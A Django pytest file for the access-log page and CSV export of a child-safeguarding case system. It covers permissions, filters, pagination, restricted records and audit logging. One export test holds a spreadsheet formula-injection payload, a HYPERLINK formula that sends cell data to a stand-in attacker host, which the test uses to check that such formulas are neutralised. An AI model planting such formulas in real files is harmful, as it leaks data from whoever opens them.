"""The "Access to this record" page: the case tab for managers, and the access log information
governance reaches by case reference. Who may see it, what it shows, the filters, the
CSV export and a fixed number of queries however long the log."""

from __future__ import annotations

import csv
import datetime
import io
import uuid

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from safetymap.accounts.models import Role
from safetymap.audit.models import AccessEvent, AuditEvent
from safetymap.cases.models import BreakGlassGrant, CaseRestriction, RestrictionAllowedUser
from safetymap.governance.tests.conftest import add_event, confirm_its_me
from tests.factories import CaseFactory, TeamFactory, UserFactory

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()


def tab_url(case):
    return reverse("governance:case_access_log", kwargs={"case_uuid": case.uuid})


def export_url(case):
    return reverse("governance:case_access_log_export", kwargs={"case_uuid": case.uuid})


def ig_url(case):
    return reverse("governance:access_log", kwargs={"case_uuid": case.uuid})


def ig_export_url(case):
    return reverse("governance:access_log_export", kwargs={"case_uuid": case.uuid})


def date_query(prefix, day):
    return {f"{prefix}_day": day.day, f"{prefix}_month": day.month, f"{prefix}_year": day.year}


def csv_rows(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


# --- Who may see it -----------------------------------------------------------------------


def test_sign_in_is_required(client, case):
    for url in (tab_url(case), export_url(case), ig_url(case), reverse("governance:index")):
        response = client.get(url)
        assert response.status_code == 302
        assert response.url.startswith(reverse("accounts:login"))


def test_an_unrelated_manager_gets_404_and_nothing_is_recorded(client, case, stranger):
    client.force_login(stranger)
    assert client.get(tab_url(case)).status_code == 404
    assert client.get(export_url(case)).status_code == 404
    assert not AccessEvent.objects.exists()
    assert not AuditEvent.objects.exists()


def test_an_unknown_case_is_404(client, manager):
    client.force_login(manager)
    response = client.get(reverse("governance:case_access_log", kwargs={"case_uuid": uuid.uuid4()}))
    assert response.status_code == 404


def test_a_worker_who_can_see_the_case_gets_403(client, case, worker):
    client.force_login(worker)
    assert client.get(tab_url(case)).status_code == 403
    assert client.get(export_url(case)).status_code == 403
    assert not AccessEvent.objects.exists()


def test_business_support_in_the_team_gets_403(client, case):
    client.force_login(UserFactory(role=Role.BUSINESS_SUPPORT, team=case.team))
    assert client.get(tab_url(case)).status_code == 403


def test_a_manager_of_a_team_above_can_read_it(client, case):
    parent = TeamFactory()
    case.team.parent = parent
    case.team.save()
    head = UserFactory(role=Role.TEAM_MANAGER, team=parent)
    client.force_login(head)
    assert client.get(tab_url(case)).status_code == 200
    assert AccessEvent.objects.get().basis == "manager"


def test_a_manager_with_emergency_access_only_gets_403(client, case):
    """Break-glass opens the record to keep a child safe, not to oversee who read it."""
    other_manager = UserFactory(role=Role.TEAM_MANAGER)
    BreakGlassGrant.objects.create(
        case=case,
        user=other_manager,
        reason="Police call at 2am: checking who is safe to collect the children.",
        expires_at=timezone.now() + datetime.timedelta(hours=8),
    )
    client.force_login(other_manager)
    assert client.get(reverse("cases:case", kwargs={"case_uuid": case.uuid})).status_code == 200
    assert client.get(tab_url(case)).status_code == 403


def test_the_tab_shows_for_managers_only(client, case, manager, worker):
    overview = reverse("cases:case", kwargs={"case_uuid": case.uuid})
    client.force_login(manager)
    assert "Access to this record" in client.get(overview).content.decode()
    client.force_login(worker)
    page = client.get(overview).content.decode()
    assert "Access to this record" not in page
    assert tab_url(case) not in page


def test_information_governance_cannot_open_the_case_tab(client, case, governance):
    """They have no relationship to the case: the record itself stays closed to them."""
    client.force_login(governance)
    assert client.get(tab_url(case)).status_code == 404
    assert client.get(reverse("cases:case", kwargs={"case_uuid": case.uuid})).status_code == 404


@pytest.mark.parametrize("role", [Role.TEAM_MANAGER, Role.PRACTITIONER, Role.PRACTICE_LEAD])
def test_only_information_governance_may_use_the_governance_pages(client, case, role):
    client.force_login(UserFactory(role=role, team=case.team))
    for url in (
        reverse("governance:index"),
        reverse("governance:access_log_lookup"),
        ig_url(case),
        ig_export_url(case),
        reverse("governance:subject_access_search"),
    ):
        assert client.get(url).status_code == 403, url
    assert not AccessEvent.objects.exists()


# --- What it shows ------------------------------------------------------------------------


def test_the_manager_sees_who_opened_the_record_when_what_and_on_what_basis(
    client, case, manager, worker
):
    add_event(case, worker, what="The map", basis="allocated worker", days_ago=2)
    other = CaseFactory()
    add_event(other, worker, what="Other child's map", basis="allocated worker")
    client.force_login(manager)
    response = client.get(tab_url(case))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Priya Shah" in page and "Social worker" in page
    assert "The map" in page and "Allocated worker" in page
    assert "Other child&#x27;s map" not in page and "Other child's map" not in page
    assert "Kian Doyle" in page  # the case header: managers are on the record itself


def test_viewing_the_log_is_itself_recorded(client, case, manager):
    client.force_login(manager)
    client.get(tab_url(case))
    event = AccessEvent.objects.get()
    assert (event.actor, event.case_uuid, event.what, event.basis) == (
        manager,
        case.uuid,
        "Access to this record",
        "manager",
    )


def test_filters_by_date_person_and_basis(client, case, manager, worker):
    colleague = UserFactory(team=case.team, first_name="Owen", last_name="Pryce")
    add_event(case, worker, what="Old visit", days_ago=40)
    add_event(case, worker, what="Recent visit", days_ago=3)
    add_event(case, colleague, what="Colleague look", basis="team member", days_ago=2)
    client.force_login(manager)

    def shown(**query):
        page = client.get(tab_url(case), query).content.decode()
        return {what for what in ("Old visit", "Recent visit", "Colleague look") if what in page}

    assert shown() == {"Old visit", "Recent visit", "Colleague look"}
    since = TODAY - datetime.timedelta(days=10)
    assert shown(**date_query("date_from", since)) == {"Recent visit", "Colleague look"}
    until = TODAY - datetime.timedelta(days=20)
    assert shown(**date_query("date_to", until)) == {"Old visit"}
    assert shown(person=str(colleague.uuid)) == {"Colleague look"}
    assert shown(basis="allocated worker") == {"Old visit", "Recent visit"}
    assert shown(basis="team member", person=str(worker.uuid)) == set()


def test_a_date_on_the_last_day_is_included(client, case, manager, worker):
    add_event(case, worker, what="Visit today")
    add_event(case, worker, what="Visit tomorrow", days_ago=-1)
    client.force_login(manager)
    page = client.get(tab_url(case), date_query("date_to", TODAY)).content.decode()
    assert "Visit today" in page and "Visit tomorrow" not in page
    assert "2 events" in page  # and the manager's own visit to this page


def test_the_filter_choices_are_the_people_and_bases_in_this_log(client, case, manager, worker):
    outsider = UserFactory(first_name="Ulrich", last_name="Nobody")
    add_event(CaseFactory(), outsider, basis="break-glass")
    add_event(case, worker)
    client.force_login(manager)
    form = client.get(tab_url(case)).context["form"]
    people = dict(form.fields["person"].choices)
    assert str(worker.uuid) in people and str(outsider.uuid) not in people
    # The manager's own visit to the page is in the log too.
    assert [value for value, _ in form.fields["basis"].choices] == [
        "",
        "allocated worker",
        "manager",
    ]


def test_dates_the_wrong_way_round_are_an_error(client, case, manager, worker):
    add_event(case, worker)
    client.force_login(manager)
    query = {
        **date_query("date_from", TODAY),
        **date_query("date_to", TODAY - datetime.timedelta(days=5)),
    }
    page = client.get(tab_url(case), query).content.decode()
    assert "There is a problem" in page
    assert "must be the same as or after" in page
    assert page.count("<title>Error: ") == 1


def test_the_log_is_paginated(client, case, manager, worker):
    for index in range(55):
        add_event(case, worker, what=f"Visit number {index:02d}", days_ago=index)
    client.force_login(manager)
    first = client.get(tab_url(case)).content.decode()
    assert "Visit number 00" in first and "Visit number 54" not in first
    assert "Showing 1 to 50 of 5" in first  # 55 events, plus this visit's own
    second = client.get(tab_url(case), {"page": 2}).content.decode()
    assert "Visit number 54" in second and "Visit number 00" not in second


def _queries(client, url, query=None):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, query or {})
    assert response.status_code == 200
    return len(captured)


def test_the_log_page_makes_a_fixed_number_of_queries(client, case, manager):
    client.force_login(manager)
    add_event(case, manager)
    small = _queries(client, tab_url(case))
    for index in range(120):
        actor = UserFactory(team=case.team) if index % 10 == 0 else manager
        add_event(
            case, actor, basis=["manager", "team member", "shared"][index % 3], days_ago=index
        )
    assert _queries(client, tab_url(case)) == small
    assert _queries(client, tab_url(case), {"page": 2, "basis": "manager"}) == small


def test_the_governance_log_page_makes_a_fixed_number_of_queries(client, case, governance):
    client.force_login(governance)
    small = _queries(client, ig_url(case))
    for index in range(120):
        add_event(case, UserFactory(team=case.team), days_ago=index)
    assert _queries(client, ig_url(case)) == small


# --- Information governance ---------------------------------------------------------------


def test_governance_finds_a_log_by_case_reference(client, case, governance):
    client.force_login(governance)
    response = client.get(
        reverse("governance:access_log_lookup"), {"reference": case.reference.lower()}
    )
    assert response.status_code == 302
    assert response.url == ig_url(case)


def test_an_unknown_reference_is_an_error_on_the_form(client, governance):
    client.force_login(governance)
    response = client.get(reverse("governance:access_log_lookup"), {"reference": "SM-000000"})
    assert response.status_code == 200
    assert "No record has that case reference" in response.content.decode()


def test_governance_sees_only_the_log_and_is_recorded_as_information_governance(
    client, case, governance, worker
):
    case.summary = "Referral after a bruise was seen at nursery."
    case.save()
    add_event(case, worker, what="The map")
    client.force_login(governance)
    response = client.get(ig_url(case))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Priya Shah" in page and "The map" in page
    assert "Referral after a bruise" not in page  # never the record itself,
    assert "Kian Doyle" not in page  # not even the child's name
    assert case.reference in page
    assert "Case sections" not in page  # no case tabs
    event = AccessEvent.objects.filter(actor=governance).get()
    assert (event.what, event.basis) == ("Access to this record", "information governance")


def test_governance_gets_404_for_an_unknown_case(client, governance):
    client.force_login(governance)
    response = client.get(reverse("governance:access_log", kwargs={"case_uuid": uuid.uuid4()}))
    assert response.status_code == 404


# --- The CSV export -----------------------------------------------------------------------


def test_the_export_neutralises_formulas_and_is_recorded(client, case, manager, worker):
    add_event(case, worker, what='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    add_event(case, worker, what="+SUM(1,2)", basis="-2+3")
    client.force_login(manager)
    confirm_its_me(client)
    response = client.get(export_url(case))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0] == ["When", "Who", "Username", "Job title", "Team", "What they opened", "Basis"]
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in cells
    assert "'+SUM(1,2)" in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    export = AccessEvent.objects.get(actor=manager, what="Access log export")
    assert export.case_uuid == case.uuid and export.basis == "manager"
    audit = AuditEvent.objects.get(action="access log export")
    assert audit.actor == manager and audit.case_uuid == case.uuid
    assert audit.changes["rows"] == 2 and audit.changes["format"] == "csv"


def test_the_export_uses_the_same_filters(client, case, manager, worker):
    add_event(case, worker, what="Old visit", days_ago=40)
    add_event(case, worker, what="Recent visit", days_ago=1)
    client.force_login(manager)
    confirm_its_me(client)
    since = TODAY - datetime.timedelta(days=10)
    response = client.get(export_url(case), date_query("date_from", since))
    whats = [row[5] for row in csv_rows(response)[1:]]
    assert whats == ["Recent visit"]
    audit = AuditEvent.objects.get(action="access log export")
    assert audit.changes["filters"] == {"date_from": since.isoformat()}
    assert audit.changes["rows"] == 1


def test_the_page_links_to_the_export_with_its_filters(client, case, manager, worker):
    add_event(case, worker)
    client.force_login(manager)
    page = client.get(tab_url(case), {"basis": "allocated worker", "page": 1}).content.decode()
    assert f'href="{export_url(case)}?basis=allocated+worker"' in page


def test_an_export_with_mistaken_filters_goes_back_to_the_page(client, case, manager):
    client.force_login(manager)
    confirm_its_me(client)
    response = client.get(
        export_url(case), {"date_from_day": "40", "date_from_month": "1", "date_from_year": "2026"}
    )
    assert response.status_code == 302
    assert response.url.startswith(tab_url(case))
    assert not AuditEvent.objects.exists()


def test_governance_export_is_recorded_as_information_governance(client, case, governance, worker):
    add_event(case, worker)
    client.force_login(governance)
    confirm_its_me(client)
    response = client.get(ig_export_url(case))
    assert response.status_code == 200
    assert len(csv_rows(response)) == 2
    event = AccessEvent.objects.get(actor=governance, what="Access log export")
    assert event.basis == "information governance"
    assert AuditEvent.objects.get(action="access log export").actor == governance


def test_if_the_export_cannot_be_recorded_no_data_is_sent(
    client, case, manager, worker, monkeypatch
):
    from safetymap.governance import services

    def broken(**kwargs):
        raise RuntimeError("database unavailable")

    monkeypatch.setattr(services, "audit_record", broken)
    add_event(case, worker, what="Secret visit")
    client.raise_request_exception = False
    client.force_login(manager)
    confirm_its_me(client)
    response = client.get(export_url(case))
    assert response.status_code == 500
    assert b"Secret visit" not in response.content
    assert not AccessEvent.objects.filter(what="Access log export").exists()


def test_the_export_asks_the_user_to_confirm_it_is_them_first(client, case, manager, worker):
    add_event(case, worker)
    client.force_login(manager)
    url = f"{export_url(case)}?basis=allocated+worker"
    response = client.get(url)
    assert response.status_code == 302
    assert response.url.startswith(reverse("accounts:reauth"))
    assert "next=" in response.url and "basis%3Dallocated%2Bworker" in response.url
    assert not AuditEvent.objects.exists()
    assert not AccessEvent.objects.filter(what="Access log export").exists()
    confirm_its_me(client)
    assert client.get(url).status_code == 200


def test_people_without_the_log_are_refused_before_being_asked_to_confirm(
    client, case, worker, stranger
):
    client.force_login(worker)
    assert client.get(export_url(case)).status_code == 403
    client.force_login(stranger)
    assert client.get(export_url(case)).status_code == 404


# --- Restricted records -------------------------------------------------------------------


def restrict(case, *, allowed=()):
    restriction = CaseRestriction.objects.create(
        case=case,
        reason="A member of staff's family",
        review_on=TODAY + datetime.timedelta(days=90),
        set_by=UserFactory(role=Role.TEAM_MANAGER),
    )
    for user in allowed:
        RestrictionAllowedUser.objects.create(
            restriction=restriction, user=user, added_by=restriction.set_by
        )
    return restriction


def test_a_manager_not_on_a_restricted_records_allow_list_gets_404(client, case, manager):
    restrict(case)
    client.force_login(manager)
    assert client.get(tab_url(case)).status_code == 404


def test_a_manager_on_the_allow_list_reads_its_log(client, case, manager):
    restrict(case, allowed=[manager])
    client.force_login(manager)
    assert client.get(tab_url(case)).status_code == 200
    assert AccessEvent.objects.get().basis == "restricted allow-list"


def test_governance_reads_a_restricted_records_log_without_its_name(client, case, governance):
    """Who opened a restricted record matters most of all; the log still never shows it."""
    restrict(case)
    client.force_login(governance)
    response = client.get(ig_url(case))
    assert response.status_code == 200
    assert "Kian Doyle" not in response.content.decode()
